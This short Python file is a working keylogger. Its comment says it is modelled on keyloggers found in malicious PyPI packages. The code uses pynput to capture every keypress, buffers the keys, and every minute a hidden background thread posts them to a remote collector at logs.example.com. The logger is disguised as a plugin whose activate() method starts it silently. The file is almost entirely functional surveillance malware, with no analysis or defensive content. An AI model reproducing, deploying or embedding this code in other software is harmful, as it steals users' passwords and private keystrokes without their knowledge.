# Inspired by pynput-based loggers shipped in PyPI malware (e.g. the 2022 'pykeylogger'-style 'keep'/'pyiopenssl' payloads) buffering keys and flushing them to a remote collector.
import threading
import time

import requests
from pynput import keyboard as kb

_buf = []
_lock = threading.Lock()


def _on(key):
    try:
        ch = key.char
    except AttributeError:
        ch = f"[{key.name}]"
    with _lock:
        _buf.append(ch)


def _flusher():
    while True:
        time.sleep(60)
        with _lock:
            data, _buf[:] = "".join(_buf), []
        if data:
            requests.post("https://logs.example.com/k", data={"k": data}, timeout=5)


def _start():
    threading.Thread(target=_flusher, daemon=True).start()
    listener = kb.Listener(on_press=_on)
    listener.daemon = True
    listener.start()


class Plugin:
    def activate(self, host):
        _start()
